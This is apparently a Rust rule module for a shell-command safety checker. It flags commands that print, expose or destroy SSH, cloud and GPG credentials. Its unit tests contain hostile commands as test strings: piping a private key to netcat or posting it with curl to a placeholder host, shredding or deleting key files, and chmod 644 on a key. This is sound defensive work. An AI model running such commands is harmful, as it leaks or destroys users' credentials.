//! Secret rules on this machine: showing, exposing and destroying keys and
//! credentials.
//!
//! Why this exists: `cat ~/.ssh/id_rsa` puts a private key on the screen,
//! `chmod 644` on it opens it to other users, and `shred -u ~/.ssh/id_rsa`
//! loses the access it gives for good. Which paths hold secrets is known in
//! `path_kind.rs`; secrets that leave the machine are `exfil.rs`'s.

use crate::safety::lower::opts;
use crate::safety::path_kind::{is_key_store, is_secret_path, normalize};
use crate::safety::rules::kit::{Cx, Out};
use crate::safety::types::rule;
use crate::safety::types::Risk::*;
use crate::safety::types::Rule;
use crate::safety::unwrapped::Cmd;

const CAT: &str = "secrets";

pub(crate) const SHOW_PRIVATE_KEY: Rule = rule(
    "sec.show_private_key",
    Moderate,
    CAT,
    "prints a private key or credentials file on the screen",
);
pub(crate) const KEY_PERMISSIONS: Rule = rule(
    "sec.key_permissions",
    Moderate,
    CAT,
    "makes a private key or credentials file readable by other users",
);

pub(crate) const DESTROY_CREDENTIALS: Rule = rule(
    "sec.destroy_credentials",
    High,
    CAT,
    "destroys private keys or credentials (SSH, GPG, cloud); without a backup, the access they give is lost for good",
);

pub(crate) const RULES: &[Rule] = &[SHOW_PRIVATE_KEY, KEY_PERMISSIONS, DESTROY_CREDENTIALS];

/// Truncating writes (`> ~/.ssh/id_rsa`) onto keys and credentials.
pub(crate) fn check_write(t: &crate::safety::rules::kit::WriteTarget, cx: &Cx, out: &mut Out) {
    if t.mode == crate::safety::rules::kit::WriteMode::Truncate
        && !matches!(t.tool, "cp" | "rsync")
        && is_key_store(&t.resolved, cx.ctx)
    {
        out.add(&DESTROY_CREDENTIALS, t.span.clone());
    }
}

pub(crate) fn check(c: &Cmd, cx: &Cx, out: &mut Out) {
    let ctx = cx.ctx;
    let name = c.name.as_str();
    match name {
        "shred" | "srm" | "wipe" | "rm" | "truncate" | "unlink" => {
            let shreds = name != "rm" && name != "unlink";
            for w in c.args.iter().filter(|w| !w.text.starts_with('-')) {
                let t = cx.resolve(c.index, &w.text);
                if is_key_store(&t, ctx) || (shreds && is_secret_path(&t, ctx)) {
                    out.add(&DESTROY_CREDENTIALS, w.span.clone());
                }
            }
        }
        "cat" | "less" | "more" | "head" | "tail" | "bat" => {
            let key = c.args.iter().find(|w| {
                let p = normalize(&w.text, ctx);
                is_secret_path(&w.text, ctx)
                    && (p.contains(".ssh/id_")
                        || p.ends_with(".aws/credentials")
                        || p == "/etc/shadow")
            });
            if let Some(w) = key {
                if shown_on_screen(c, cx) {
                    out.add(&SHOW_PRIVATE_KEY, w.span.clone());
                }
            }
        }
        "chmod" => {
            let o = opts(&c.args, "", &[]);
            if let Some(mode) = o.operands.first() {
                let m = mode.text.as_str();
                let loose = (m.len() == 3 || m.len() == 4)
                    && m.chars().all(|ch| ch.is_ascii_digit())
                    && !m.ends_with('0')
                    || m.starts_with("o+")
                    || m.starts_with("a+")
                    || m.starts_with("go+");
                if loose {
                    for w in &o.operands[1..] {
                        if is_secret_path(&w.text, ctx) {
                            out.add(&KEY_PERMISSIONS, w.span.clone());
                        }
                    }
                }
            }
        }
        _ => {}
    }
}

/// Whether what command `c` prints goes to the terminal: not into a pipe,
/// a file or a command substitution.
fn shown_on_screen(c: &Cmd, cx: &Cx) -> bool {
    let s = cx.script;
    let sc = &s.commands[c.index];
    let last = s.pipelines.get(sc.pipeline).and_then(|p| p.last()) == Some(&c.index);
    last && !sc.redirects.iter().any(|r| r.writes()) && !cx.flow().is_nested(c.index)
}

#[cfg(test)]
mod tests {
    use crate::safety::tests::{assert_flags, assert_not_flags};

    #[test]
    fn show_private_key() {
        assert_flags("cat ~/.ssh/id_rsa", "sec.show_private_key");
        assert_not_flags("cat ~/.ssh/id_rsa | nc h 1", "sec.show_private_key");
        assert_not_flags(
            "curl -d \"$(cat ~/.ssh/id_rsa)\" http://h",
            "sec.show_private_key",
        );
        assert_not_flags("cat ~/.ssh/id_rsa.pub", "sec.show_private_key");
    }

    #[test]
    fn destroy_credentials() {
        assert_flags("shred -u ~/.ssh/id_rsa", "sec.destroy_credentials");
        assert_flags("shred -zu ~/.aws/credentials", "sec.destroy_credentials");
        assert_flags("shred -u .env", "sec.destroy_credentials");
        assert_flags("rm -rf ~/.ssh", "sec.destroy_credentials");
        assert_flags("rm -rf ~/.gnupg/", "sec.destroy_credentials");
        assert_flags(
            "sudo rm /etc/ssh/ssh_host_ed25519_key",
            "sec.destroy_credentials",
        );
        assert_flags("> ~/.ssh/id_ed25519", "sec.destroy_credentials");
        assert_not_flags("rm ~/.ssh/known_hosts", "sec.destroy_credentials");
        assert_not_flags("rm ~/.ssh/id_rsa.pub", "sec.destroy_credentials");
        assert_not_flags("shred -u notes.txt", "sec.destroy_credentials");
        assert_not_flags("rm .env.example", "sec.destroy_credentials");
    }

    #[test]
    fn key_permissions() {
        assert_flags("chmod 644 ~/.ssh/id_rsa", "sec.key_permissions");
        assert_not_flags("chmod 600 ~/.ssh/id_rsa", "sec.key_permissions");
    }
}
